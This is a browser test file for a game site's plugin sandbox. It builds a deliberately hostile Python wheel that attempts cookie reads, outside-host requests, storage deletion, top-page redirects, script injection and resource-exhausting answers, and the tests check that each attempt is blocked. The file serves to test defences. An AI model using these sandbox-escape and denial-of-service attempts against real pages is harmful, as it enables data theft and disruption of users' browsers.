"""A wheel that means harm: what it tries from Python, from JavaScript, and by what it answers."""

from __future__ import annotations

import json

import pytest

from tests.browser.hosts import Host
from tests.browser.steps import (
    at_rest,
    begin,
    open_game,
    settled,
    to_home,
    touch,
    unfold,
    until,
)
from tests.browser.toy_wheel import TOY, choose, install, wheel
from tests.browsers.expecting import expect
from tests.sampling import sample_of

# Every attempt notes in RESULTS what came of it. The page shows them as the credit of the game.
EVIL = """
import json
import js
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js
from drystone.app import page as program
from drystone.core.options import ChoiceOption
from drystone.games.anaash import GAME as ANAASH

OTHER = "%(other)s"
RESULTS = {}
WITHIN = '''
const told = {};
const tell = (name, value) => { told[name] = String(value); };
const later = (name, act) => act().then(() => 'done', String).then((found) => tell(name, found));
const now = (name, act) => {
  try { tell(name, 'done ' + act()); } catch (error) { tell(name, error); }
};
now('inner importScripts', () => importScripts('%(other)sinner'));
Promise.all([
  later('inner fetch', async () => fetch('%(other)sinner', { mode: 'no-cors' })),
  later('inner import', async () => import('%(other)sinner')),
  later('inner caches', async () => caches.open('drystone-site:x')),
  later('inner indexedDB', async () => indexedDB.open('drystone')),
]).then(() => postMessage(JSON.stringify(told)));
'''

class GAME(ANAASH):
    name = "toy"
    title = "Toy"

def note(name, found):
    RESULTS[name] = str(found)[:50]
    GAME.credit = json.dumps(RESULTS)

def attempt(name, act):
    try:
        found = act()
    except BaseException as error:
        note(name, f"{type(error).__name__}: {error}")
        return
    if not hasattr(found, "then"):
        note(name, f"done {found}")
        return
    found.then(
        create_proxy(lambda *_: note(name, "done")),
        create_proxy(lambda error: note(name, f"refused {error}")),
    )

def ajax():
    asked = js.XMLHttpRequest.new()
    asked.open("GET", OTHER + "ajax", False)
    asked.send()
    return asked.status

def listening(made):
    name = type(made).__name__
    def settle(resolve, reject):
        made.onopen = create_proxy(lambda *_: resolve("open"))
        made.onerror = create_proxy(lambda *_: reject("error"))
    return js.Promise.new(create_proxy(settle))

# Some browsers refuse to make such a worker; others make one that fails.
def speaking(made):
    def settle(resolve, reject):
        made.onmessage = create_proxy(lambda *_: resolve("it speaks"))
        made.onerror = create_proxy(lambda *_: reject("error"))
    return js.Promise.new(create_proxy(settle))

def leave():
    js.location.href = OTHER
    if js.location.href != OTHER:
        raise ValueError("still here")

def options(**given):
    return to_js(given, dict_converter=js.Object.fromEntries)

def inner():
    blob = js.Blob.new(to_js([WITHIN]), options(type="text/javascript"))
    worker = js.Worker.new(js.URL.createObjectURL(blob))
    def settle(resolve, reject):
        worker.onmessage = create_proxy(lambda event: resolve(event.data))
        worker.onerror = create_proxy(lambda *_: reject("no worker"))
    def told(text, *_):
        for name, found in json.loads(text).items():
            note(name, found)
    return js.Promise.new(create_proxy(settle)).then(create_proxy(told))

SITE = "%(site)s"
ATTEMPTS = {
    "caches": lambda: js.caches.open("drystone-site:x"),
    "snapshot": lambda: js.caches.open("drystone-snapshot"),
    "indexedDB": lambda: js.indexedDB.open("drystone"),
    "deleting": lambda: js.indexedDB.deleteDatabase("drystone"),
    "localStorage": lambda: js.localStorage.setItem("drystone:view", "evil"),
    "cookies": lambda: js.document.cookie,
    "parent": lambda: js.parent.document.title,
    "top": lambda: js.top.location.assign(OTHER),
    "location": lambda: leave(),
    "open": lambda: js.open(OTHER + "open"),
    "eval": lambda: run_js("1 + 1"),
    "importScripts": lambda: js.importScripts(OTHER + "script"),
    "service worker": lambda: js.navigator.serviceWorker.register(SITE + "sw.js"),
    "storage": lambda: js.navigator.storage.getDirectory(),
    "fetch": lambda: js.fetch(OTHER + "fetch", options(mode="no-cors")),
    "fetch of this site": lambda: js.fetch(SITE + "?secret", options(mode="no-cors")),
    "ajax": ajax,
    "socket": lambda: listening(js.WebSocket.new(OTHER.replace("http", "ws") + "socket")),
    "events": lambda: listening(js.EventSource.new(OTHER + "events")),
    "font": lambda: js.FontFace.new("x", f"url({OTHER}font)").load(),
    "worker": lambda: speaking(js.Worker.new(OTHER + "worker")),
    "postMessage": lambda: js.postMessage("said"),
}
for name, act in ATTEMPTS.items():
    attempt(name, act)
attempt("inner", inner)

# What it does when it is asked something.
answered = program.Page.handle

def handle(self, text):
    if text == UNASKED:
        return "x" * 1_000
    message = json.loads(text)
    if message.get("options", {}).get("size") == 10:
        said = {"kind": "error", "text": "Sign in.", "rule": "", "sites": []}
        return json.dumps({"said": said})
    if message.get("site") == "c3":
        while True:
            pass
    answer = answered(self, text)
    if message.get("site") in CHANGES:
        return changed(json.loads(answer), *CHANGES[message["site"]])
    if message.get("site") == "a2":
        answer = answer.replace('["g",', '["script",', 1)
    if message.get("site") == "b2":
        ask(10_000)
    return answer

UNASKED = "what nobody has asked"

def ask(id):
    data = options(id=id, text=UNASKED)
    js.dispatchEvent(js.MessageEvent.new("message", options(data=data)))

def changed(view, field, text):
    view[field] = "HERE"
    return json.dumps(view).replace('"HERE"', text())

def unasked():
    for number in range(100_000):
        ask(10_000 + number)
    return '""'

CHANGES = {
    "a4": ("scene", lambda: '"' + "x" * 100_000_000 + '"'),
    "d4": ("scene", lambda: '["svg",{},[' + '["g",{},[' * 300_000 + "]]" * 300_001),
    "a3": ("hint", lambda: "[" * 2_000_000 + "]" * 2_000_000),
    "d3": ("hint", unasked),
    "d2": ("saving", lambda: '{"match":-999999998,"tree":1,"state":"x"}'),
    "d1": ("saving", lambda: '{"match":77,"tree":1,"state":"x"}'),
}
program.Page.handle = handle
"""
NAMES = {
    *("caches", "snapshot", "indexedDB", "deleting", "localStorage", "cookies", "parent", "top"),
    *("location", "open", "eval", "importScripts", "service worker", "storage", "fetch"),
    *("fetch of this site", "ajax", "socket", "events", "font", "worker", "inner"),
    "postMessage",
    *("inner importScripts", "inner fetch", "inner import", "inner caches", "inner indexedDB"),
}
STORED = """async () => ({
    caches: (await caches.keys()).filter((name) => !/^drystone-(site:app-|snapshot$)/.test(name)),
    databases: (await indexedDB.databases()).map(({ name }) => name).sort(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
})"""


@pytest.fixture(scope="module")
def other(site):
    """A server that waits for what a wheel sends it; `asked` lists the paths."""
    with Host(site) as host:
        host.show("")
        yield host


@pytest.fixture(scope="module")
def evil(other, site):
    address = f"http://127.0.0.1:{other.server.server_address[1]}/"
    return wheel(code=EVIL % {"other": address, "site": site})


@pytest.fixture(scope="module")
def attacked(browser, site, evil):
    """A page with the wheel in it, for all tests of this file."""
    context = browser.new_context(base_url=site)
    page = context.new_page()
    open_game(page)
    touch(page, "a1", "a2")
    install(page, evil)
    yield page
    context.close()


@pytest.fixture
def toy(attacked):
    """The same page with the wheel's game on the board, whatever came before."""
    if not attacked.locator("#title:visible", has_text="Toy").count():
        begin(attacked, "Toy")
        settled(attacked)
    return attacked


@pytest.fixture
def begun(toy):
    """The same once a move is played."""
    if toy.locator("#moves > li").count() == 0:
        touch(toy, "c1", "c2")
    at_rest(toy)
    return toy


def credit(page):
    return json.loads(page.locator("#credit").text_content() or "{}")


def test_nothing_can_be_reached_from_a_wheel(attacked, other):
    page = attacked
    before = page.evaluate(STORED)
    begin(page, "Toy")
    for _ in range(100):
        settled(page)
        found = credit(page)
        if found.keys() >= NAMES:
            break
        page.locator('[data-act="flip"]').click()
        page.wait_for_timeout(200)
    assert found.keys() == NAMES
    reached = {name for name, text in found.items() if text.startswith("done")}
    assert reached == {"inner"}  # a worker inside the worker, which reaches nothing either
    assert other.asked == []
    assert page.evaluate(STORED) == before
    assert page.url.startswith(page.evaluate("location.origin"))


def start_again(page):
    """Start the wheel again after it was stopped."""
    page.locator("[data-notice=wheel]").get_by_role("button", name="Start it again").click()
    expect(page.locator("#said")).not_to_have_class("error")
    settled(page)


def test_a_view_with_a_script_is_not_shown(toy):
    page = toy
    touch(page, "a1")
    page.locator('[data-site="a2"]').click()
    expect(page.locator("#said")).to_contain_text(
        f"“{TOY}” was stopped: A scene can’t hold <script>"
    )
    expect(page.locator("#board script")).to_have_count(0)
    start_again(page)


def test_what_nobody_has_asked_for_ends_it(toy):
    page = toy
    page.locator('[data-site="b2"]').click()
    expect(page.locator("#said")).to_contain_text("It says what nobody has asked.")
    start_again(page)


# The sites that bring them on, and what is said of them.
HUGE = {
    "100 MB": ("a4", "Its answer is too long."),
    "a deep scene": ("d4", "A scene is too large."),
    "a deep list": ("a3", "“hint” is no text: "),
    "a hundred thousand answers": ("d3", "It says what nobody has asked."),
    "a match of the site": ("d2", "It has changed the match."),
    "one more match": ("d1", "It has changed the match."),
}


@pytest.mark.parametrize("name", sample_of(HUGE, 2, count=2))
def test_a_huge_answer_costs_neither_the_page_nor_the_match(begun, name):
    space, words = HUGE[name]
    page = begun
    page.locator(f'[data-site="{space}"]').click()
    expect(page.locator("#said")).to_contain_text(f"“{TOY}” was stopped: ")
    expect(page.locator("#said")).to_contain_text(words)
    expect(page.locator("#moves > li")).to_have_count(1)
    start_again(page)
    expect(page.locator("#moves > li")).to_have_count(1)


def test_what_it_says_in_a_dialog_begins_with_its_name(attacked):
    page = attacked
    to_home(page)
    expect(page.locator("[data-card=toy] .meta")).to_contain_text(TOY)
    page.get_by_role("button", name="Play Toy", exact=True).click()
    unfold(page)
    page.locator('#play [name="play-size"][value="10"]').check()
    page.locator("[data-act=start]").click()
    expect(page.locator("#play-error")).to_have_text(f"“{TOY}” says: Sign in.")
    page.locator("[data-act=closePlay]").click()


# Classes of the style sheets with which what a view names would leave its place.
LEAVING = """() => {
    const names = new Set();
    const read = (rules) => {
        for (const { selectorText = '', cssRules } of rules) {
            for (const [, name] of selectorText.matchAll(/\\.([\\w-]+)/g)) names.add(name);
            if (cssRules) read(cssRules);
        }
    };
    for (const sheet of document.styleSheets) read(sheet.cssRules);
    const moves = document.querySelector('#moves');
    moves.append(document.createElement('button'));
    const named = ['#board > svg', '#far .token', '#moves > button'];
    const ones = named.map((selector) => document.querySelector(selector));
    const found = ones.flatMap((one) => [...names].filter((name) => {
        one.setAttribute('class', `board ${name}`);
        const { position, overflow, contain } = getComputedStyle(one);
        const kept = overflow === 'clip' && contain === 'paint';
        return position === 'fixed' || (one.matches('#board > svg') && !kept);
    }));
    return [names.size, found];
}"""


def test_no_class_that_a_view_may_name_lies_over_the_page(phone):
    open_game(phone)
    count, found = phone.evaluate(LEAVING)
    assert count > 100
    assert found == []


# The seconds of a page become shorter, and as they were again.
HURRY = """() => {
    const seconds = window.setInterval;
    window.setInterval = (act, time) => seconds(act, time / 30);
    window.slowly = () => (window.setInterval = seconds);
}"""


def test_an_endless_loop_is_stopped_after_a_while(begun):
    page = begun
    page.evaluate(HURRY)
    page.locator('[data-site="c3"]').click()
    expect(page.locator("#said")).to_contain_text("It has not answered for 30 seconds.")
    page.evaluate("slowly()")
    start_again(page)
    expect(page.locator("#moves > li")).to_have_count(1)


def test_an_endless_loop_is_left_for_another_game(toy):
    page = toy
    page.locator('[data-site="c3"]').click()
    expect(page.locator("html")).to_have_attribute("data-state", "thinking")
    begin(page, "Anaash")
    settled(page)
    touch(page, "a1", "a2")
    expect(page.locator("#moves > li")).to_have_count(1)
    until(page, "!document.querySelector('iframe')")
    begin(page, "Toy")
    settled(page)


def test_an_endless_loop_at_the_start_leaves_the_page_as_it_is(attacked):
    page = attacked
    begin(page, "Anaash")
    settled(page)
    choose(page, wheel(code="while True:\n    pass\n"), "loop-1.0-py3-none-any.whl")
    expect(page.locator("#said")).to_contain_text("Installing")
    touch(page, "a1", "a2")
    expect(page.locator("#moves > li")).to_have_count(1)
